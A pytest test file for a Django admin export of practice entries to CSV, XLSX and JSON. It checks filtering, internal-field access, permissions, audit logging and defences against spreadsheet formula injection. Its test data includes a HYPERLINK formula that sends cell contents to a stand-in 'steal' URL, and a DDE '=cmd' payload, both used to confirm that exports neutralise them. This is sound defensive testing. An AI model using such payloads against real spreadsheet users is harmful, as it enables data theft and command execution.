"""The Office exports the admin list of entries, as filtered and searched, as CSV,
XLSX or JSON, with public fields only or with internal fields too."""

import csv
import datetime
import io
import json

import openpyxl
import pytest
from django.contrib.auth.models import Group, Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from wagtail.models import ModelLogEntry

from compendium.downloads import FORMULA_STARTS
from compendium.models import Country, Pillar
from contributions import exports, services
from contributions.choices import EntryStatus
from contributions.models import PracticeEntry, Source
from demo import synthetic
from tests.contributions.factories import UserFactory, create_entry

pytestmark = pytest.mark.django_db

LIST = "/admin/practice_entries/"
CONTACT = "Desk officer, +233 000 000"  # every entry_form_data entry has it
# Texts a spreadsheet program would take for formulas, leading spaces or not.
FORMULAS = [
    '=HYPERLINK("https://example.org/steal?d="&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1:A2)",
    "\tx",
    "\rx",
    "==1+1",
    "  =1+1",
    " \t=cmd",
]


def export(client, query=""):
    """(response, text) of an export; text is None for XLSX."""
    response = client.get(f"{LIST}?{query}")
    assert response.status_code == 200, response.status_code
    if response.streaming and "xlsx" not in response["Content-Disposition"]:
        return response, b"".join(response.streaming_content).decode("utf-8")
    return response, None


def csv_rows(client, query=""):
    _response, text = export(client, f"export=csv&{query}")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def json_document(client, query=""):
    _response, text = export(client, f"export=json&{query}")
    return json.loads(text)


def xlsx_sheet(client, query=""):
    response, _text = export(client, f"export=xlsx&{query}")
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return book.active


def references(rows):
    return [row["Reference"] for row in rows]


@pytest.fixture
def entries(contributor, focal_point, ghana, other_focal_point, denmark):
    """Three entries the Office sees: Ghana's submitted early-warning committee
    (pillar I), Ghana's radio programme (pillar II) and Denmark's network
    (pillars I and III, with a source), both withdrawn after their
    submission."""
    committee = create_entry(
        contributor, ghana, title="Early warning committee", summary="Risk factors."
    )
    services.submit(actor=focal_point, entry=committee)
    pillars = {pillar.code: pillar.pk for pillar in Pillar.objects.all()}
    radio = create_entry(
        contributor,
        ghana,
        title="Peace radio programme",
        summary="Weekly broadcasts against hate speech.",
        pillars=[pillars["II"]],
        internal_contact="",
    )
    network = create_entry(
        other_focal_point,
        denmark,
        title="Danish atrocity prevention network",
        summary="A network of national institutions.",
        pillars=[pillars["III"], pillars["I"]],
        countries=[Country.objects.get(iso3="GHA").pk],
        **{
            "sources-0-title": "=cmd|' /C calc'!A0",
            "sources-0-url": "https://example.dk/network",
        },
    )
    for entry, focal in [(radio, focal_point), (network, other_focal_point)]:
        services.submit(actor=focal, entry=entry)
        services.withdraw(actor=focal, entry=entry)
    return committee, radio, network


@pytest.fixture
def submitted(draft, focal_point):
    """Ghana's CP-0001, submitted to the Office."""
    return services.submit(actor=focal_point, entry=draft)


# What is exported --------------------------------------------------------------


def test_export_contains_exactly_the_filtered_and_searched_entries(
    client, reviewer, entries
):
    committee, radio, network = entries
    client.force_login(reviewer)
    every = references(csv_rows(client))
    assert sorted(every) == sorted(e.reference for e in entries)

    assert references(csv_rows(client, "status=submitted")) == [committee.reference]
    pillar_one = Pillar.objects.get(code="I").pk
    assert sorted(references(csv_rows(client, f"pillars={pillar_one}"))) == sorted(
        [committee.reference, network.reference]
    )
    assert references(csv_rows(client, "q=radio")) == [radio.reference]
    assert references(csv_rows(client, f"q=committee&pillars={pillar_one}")) == [
        committee.reference
    ]
    assert csv_rows(client, "q=nothing+matches+this") == []


def test_export_follows_the_listing_order(client, reviewer, entries):
    client.force_login(reviewer)
    listed = references(csv_rows(client, "ordering=reference"))
    assert listed == sorted(e.reference for e in entries)
    assert references(csv_rows(client, "ordering=-reference")) == listed[::-1]


def test_public_export_has_no_internal_field_in_any_format(
    client, reviewer, contributor, entries
):
    client.force_login(reviewer)
    rows = csv_rows(client)
    assert "Internal contact" not in rows[0]
    assert "Status" not in rows[0] and "Created by" not in rows[0]
    for export_format in ("csv", "json"):
        _response, text = export(client, f"export={export_format}")
        assert CONTACT not in text
        assert contributor.email not in text and "submitted" not in text
    document = json_document(client)
    assert document["fields"] == "public"
    assert "internal_contact" not in document["entries"][0]
    sheet = xlsx_sheet(client)
    headings = [cell.value for cell in sheet[1]]
    assert "Internal contact" not in headings
    assert CONTACT not in {cell.value for row in sheet.iter_rows() for cell in row}


def test_internal_export_adds_contact_status_version_and_authors(
    client, reviewer, contributor, entries
):
    committee, radio, _network = entries
    client.force_login(reviewer)
    rows = {row["Reference"]: row for row in csv_rows(client, "fields=internal")}
    committee_row = rows[committee.reference]
    assert committee_row["Internal contact"] == CONTACT
    assert committee_row["Status"] == "Submitted"
    assert committee_row["Version"] == str(committee.version_number)
    assert committee_row["Created by"] == contributor.email
    created = committee.created_at.astimezone(datetime.UTC).replace(microsecond=0)
    assert committee_row["Created (UTC)"] == f"{created:%Y-%m-%d %H:%M:%S}"
    assert committee_row["Organisation active"] == "True"
    assert rows[radio.reference]["Internal contact"] == ""

    document = json_document(client, "fields=internal")
    assert document["fields"] == "internal"
    by_reference = {item["reference"]: item for item in document["entries"]}
    assert by_reference[committee.reference]["internal_contact"] == CONTACT
    assert by_reference[committee.reference]["status"] == "submitted"
    assert by_reference[committee.reference]["created_at"] == (
        f"{created:%Y-%m-%dT%H:%M:%SZ}"
    )

    sheet = xlsx_sheet(client, "fields=internal&status=submitted")
    headings = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=headings.index("Created (UTC)") + 1)
    assert cell.value == created.replace(tzinfo=None)
    assert cell.is_date

    response, _text = export(client, "export=xlsx&fields=internal")
    assert (
        'filename="practice-entries-internal.xlsx"' in response["Content-Disposition"]
    )
    assert "no-store" in response["Cache-Control"]


def test_classification_and_sources_are_joined_codes_in_spreadsheets_and_lists_in_json(
    client, reviewer, entries
):
    _committee, _radio, network = entries
    client.force_login(reviewer)
    row = next(r for r in csv_rows(client) if r["Reference"] == network.reference)
    assert row["Pillars"] == "I; III"
    assert row["Priorities"] == "2"
    assert row["Countries concerned (ISO3)"] == "GHA"
    assert row["Organisation"] == network.organisation.name
    assert row["Kind of organisation"] == "Member State"
    assert row["Sources"] == "'=cmd|' /C calc'!A0 <https://example.dk/network>"

    item = next(
        i
        for i in json_document(client)["entries"]
        if i["reference"] == network.reference
    )
    assert item["pillars"] == ["I", "III"]
    assert item["countries"] == ["GHA"]
    assert item["organisation_kind"] == "member-state"
    assert item["sources"] == [
        {"title": "=cmd|' /C calc'!A0", "url": "https://example.dk/network"}
    ]
    assert item["description"] == "The committee meets monthly."


def test_sources_keep_the_order_the_contributor_gave_them(client, reviewer, submitted):
    submitted.sources.all().delete()
    for title, order in [("Second", 2), ("First", 1)]:
        url = f"https://example.org/{title.lower()}"
        Source.objects.create(entry=submitted, title=title, url=url, sort_order=order)
    client.force_login(reviewer)
    assert csv_rows(client)[0]["Sources"] == (
        "First <https://example.org/first>; Second <https://example.org/second>"
    )
    assert [s["title"] for s in json_document(client)["entries"][0]["sources"]] == [
        "First",
        "Second",
    ]


def test_json_is_valid_and_has_the_same_rows_as_csv(client, reviewer, entries):
    client.force_login(reviewer)
    query = "fields=internal&ordering=-reference"
    rows = csv_rows(client, query)
    document = json_document(client, query)
    assert [item["reference"] for item in document["entries"]] == references(rows)
    assert [item["title"] for item in document["entries"]] == [
        row["Title"] for row in rows
    ]
    headings = {str(column.heading) for column in exports.columns_for("internal")}
    assert set(rows[0]) == headings
    assert set(document["entries"][0]) == {
        column.name for column in exports.columns_for("internal")
    }


def test_xlsx_opens_with_the_same_rows(client, reviewer, entries):
    client.force_login(reviewer)
    sheet = xlsx_sheet(client, "ordering=reference")
    values = list(sheet.values)
    assert values[0][:2] == ("Reference", "Title")
    assert [row[0] for row in values[1:]] == sorted(e.reference for e in entries)


# Formulas ----------------------------------------------------------------------


@pytest.fixture
def formula_entries():
    """One synthetic entry per formula, each in its title, summary and internal
    contact, saved as typed (the entry form would strip leading spaces), each
    submitted so that the Office exports it."""
    synthetic.add_entries(len(FORMULAS))
    entries = list(PracticeEntry.objects.order_by("reference"))
    for entry, formula in zip(entries, FORMULAS, strict=True):
        PracticeEntry.objects.filter(pk=entry.pk).update(
            title=formula,
            summary=formula,
            internal_contact=formula,
            status=EntryStatus.SUBMITTED,
        )
    return entries


def starts_a_formula(value):
    return isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS)


def test_no_csv_cell_starts_a_formula(client, reviewer, formula_entries):
    client.force_login(reviewer)
    rows = csv_rows(client, "fields=internal&ordering=reference")
    assert [row["Title"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert [row["Internal contact"] for row in rows] == [
        "'" + formula for formula in FORMULAS
    ]
    assert not [
        value for row in rows for value in row.values() if starts_a_formula(value)
    ]


def test_no_xlsx_cell_is_a_formula(client, reviewer, formula_entries):
    client.force_login(reviewer)
    sheet = xlsx_sheet(client, "fields=internal&ordering=reference")
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.coordinate for cell in cells if starts_a_formula(cell.value)]
    titles = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    # openpyxl's XML parser reads a carriage return back as itself (lxml) or
    # as a line feed (the standard library's), whichever is installed.
    assert [title.replace("\r", "\n") for title in titles] == [
        "'" + formula.replace("\r", "\n") for formula in FORMULAS
    ]


def test_json_keeps_values_as_they_are(client, reviewer, formula_entries):
    client.force_login(reviewer)
    document = json_document(client, "ordering=reference")
    assert [item["title"] for item in document["entries"]] == FORMULAS


def test_xlsx_drops_control_characters_it_cannot_hold(client, reviewer, submitted):
    PracticeEntry.objects.filter(pk=submitted.pk).update(title="Pasted\x0b title\x1f")
    client.force_login(reviewer)
    sheet = xlsx_sheet(client)
    assert sheet["B2"].value == "Pasted title"


def test_csv_lines_are_what_csv_writer_writes():
    cells = [
        "plain",
        "a, b",
        'say "hi"',
        "line\nbreak",
        "carriage\rreturn",
        "",
        None,
        2012,
        True,
        " leading space",
        "ünïcødé; 中文",
        "tab\tinside",
    ]
    expected = io.StringIO()
    csv.writer(expected).writerow(cells)
    assert exports.csv_line(cells) == expected.getvalue()
    assert next(csv.reader(io.StringIO(exports.csv_line(cells)))) == [
        "" if cell is None else str(cell) for cell in cells
    ]


# Queries and chunks ------------------------------------------------------------


def count_queries(client, export_format):
    with CaptureQueriesContext(connection) as captured:
        response = client.get(f"{LIST}?export={export_format}&fields=internal")
        b"".join(response.streaming_content)
    return len(captured)


@pytest.mark.parametrize("export_format", ["csv", "json", "xlsx"])
def test_queries_do_not_grow_with_the_number_of_entries(
    client, reviewer, export_format
):
    client.force_login(reviewer)
    synthetic.add_entries(5)
    few = count_queries(client, export_format)
    synthetic.add_entries(45)
    assert PracticeEntry.objects.count() == 50
    assert count_queries(client, export_format) == few


def test_entries_read_in_chunks_keep_their_own_classification(
    client, reviewer, monkeypatch
):
    synthetic.add_entries(7)
    monkeypatch.setattr(exports, "CHUNK", 3)
    client.force_login(reviewer)
    document = json_document(client, "ordering=reference")
    entries = (
        PracticeEntry.objects.seen_by_office()
        .order_by("reference")
        .prefetch_related("pillars", "countries", "sources")
    )
    assert [item["reference"] for item in document["entries"]] == [
        entry.reference for entry in entries
    ]
    for item, entry in zip(document["entries"], entries, strict=True):
        assert set(item["pillars"]) == {p.code for p in entry.pillars.all()}
        assert set(item["countries"]) == {c.iso3 for c in entry.countries.all()}
        assert [s["url"] for s in item["sources"]] == [
            s.url for s in entry.sources.all()
        ]


def leave_an_export_unfinished(monkeypatch):
    """Writes the first lines of a long export, then closes it as the server
    does when the browser goes away; the database must answer as before, with
    its settings (PostgreSQL's JIT, turned off for an export) put back."""
    synthetic.add_entries(40)
    monkeypatch.setattr(exports, "CHUNK", 2)
    settings_before = jit_setting()
    lines = exports.csv_lines(
        PracticeEntry.objects.order_by("reference"),
        exports.columns_for(exports.INTERNAL),
    )
    assert next(lines) == "\ufeff"
    assert next(lines).startswith("Reference,Title")
    assert next(lines).startswith("CP-")
    lines.close()

    assert PracticeEntry.objects.count() == 40
    assert jit_setting() == settings_before
    rows = list(
        exports.records(
            PracticeEntry.objects.order_by("reference"),
            exports.columns_for(exports.PUBLIC),
        )
    )
    assert len(rows) == 40


def jit_setting():
    if connection.vendor != "postgresql":
        return None
    with connection.cursor() as cursor:
        cursor.execute("SELECT current_setting('jit')")
        return cursor.fetchone()[0]


def test_an_export_left_unfinished_leaves_the_transaction_usable(monkeypatch):
    leave_an_export_unfinished(monkeypatch)


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_an_export_left_unfinished_leaves_the_connection_usable(monkeypatch):
    """Outside a transaction, as a live request runs."""
    leave_an_export_unfinished(monkeypatch)


# Buttons -----------------------------------------------------------------------


def test_the_list_offers_each_format_with_and_without_internal_fields(
    client, reviewer, entries
):
    client.force_login(reviewer)
    page = client.get(f"{LIST}?status=submitted&p=1").content.decode()
    for label, query in [
        ("Download CSV", "status=submitted&amp;export=csv"),
        ("Download XLSX", "status=submitted&amp;export=xlsx"),
        ("Download JSON", "status=submitted&amp;export=json"),
        (
            "Download CSV with internal fields",
            "status=submitted&amp;export=csv&amp;fields=internal",
        ),
        (
            "Download JSON with internal fields",
            "status=submitted&amp;export=json&amp;fields=internal",
        ),
    ]:
        assert f'href="{LIST}?{query}"' in page, label
        assert label in page


def test_buttons_redrawn_with_the_results_keep_the_new_filters(
    client, reviewer, entries
):
    client.force_login(reviewer)
    fragment = client.get(
        f"{LIST}results/?q=radio&_w_filter_fragment=1"
    ).content.decode()
    assert f'href="{LIST}?q=radio&amp;export=csv"' in fragment
    assert "results/?q=radio&amp;export" not in fragment


# Who may export ----------------------------------------------------------------


@pytest.mark.parametrize("role", ["reviewer", "publisher", "administrator"])
def test_office_staff_export_with_internal_fields(client, request, role, entries):
    client.force_login(request.getfixturevalue(role))
    rows = csv_rows(client, "fields=internal")
    assert CONTACT in {row["Internal contact"] for row in rows}


@pytest.mark.parametrize("role", ["contributor", "focal_point", "observer"])
@pytest.mark.parametrize("query", ["export=csv", "export=json&fields=internal"])
def test_members_of_organisations_cannot_export(client, request, role, query, entries):
    client.force_login(request.getfixturevalue(role))
    response = client.get(f"{LIST}?{query}")
    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")


def test_staff_without_entry_permission_cannot_export(client, entries):
    group = Group.objects.create(name="Communications")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    user = UserFactory()
    user.groups.add(group)
    client.force_login(user)
    response = client.get(f"{LIST}?export=csv&fields=internal")
    assert (response.status_code, response["Location"]) == (302, "/admin/")


@pytest.mark.parametrize(
    "query",
    [
        "export=exe",
        "export=",
        "export=CSV",
        "export=csv&fields=everything",
        "export=json&fields=",
    ],
)
def test_forged_export_requests_are_not_found(client, reviewer, entries, query):
    client.force_login(reviewer)
    assert client.get(f"{LIST}?{query}").status_code == 404


# What is kept of exports ---------------------------------------------------------


def exports_logged():
    return [
        (entry.user_id, entry.data)
        for entry in ModelLogEntry.objects.filter(
            action="contributions.export"
        ).order_by("pk")
    ]


def test_each_export_is_kept_in_the_site_history(
    client, reviewer, administrator, entries
):
    client.force_login(reviewer)
    csv_rows(client, "fields=internal&status=submitted")
    json_document(client, "q=radio")

    assert exports_logged() == [
        (
            reviewer.pk,
            {"format": "csv", "fields": "internal", "filters": "status=submitted"},
        ),
        (reviewer.pk, {"format": "json", "fields": "public", "filters": "q=radio"}),
    ]
    client.force_login(administrator)
    history = client.get("/admin/reports/site-history/").content.decode()
    assert (
        "Entries exported as CSV, with internal fields; search and filters: "
        "status=submitted"
    ) in history


@pytest.mark.parametrize(
    "query", ["export=exe", "export=csv&fields=everything", "export=csv&pillars=999999"]
)
def test_a_refused_export_is_not_kept_as_one(client, reviewer, entries, query):
    client.force_login(reviewer)
    assert client.get(f"{LIST}?{query}").status_code in (400, 404)
    assert exports_logged() == []


@pytest.mark.parametrize("role", ["contributor", "observer"])
def test_an_export_refused_to_a_member_is_not_kept_as_one(
    client, request, role, entries
):
    client.force_login(request.getfixturevalue(role))
    assert client.get(f"{LIST}?export=csv&fields=internal").status_code == 302
    assert exports_logged() == []


def test_an_invalid_filter_is_refused_rather_than_exporting_everything(
    client, reviewer, entries
):
    client.force_login(reviewer)
    assert client.get(f"{LIST}?export=csv&status=no-such-status").status_code == 400
    assert client.get(f"{LIST}?export=csv&pillars=999999").status_code == 400
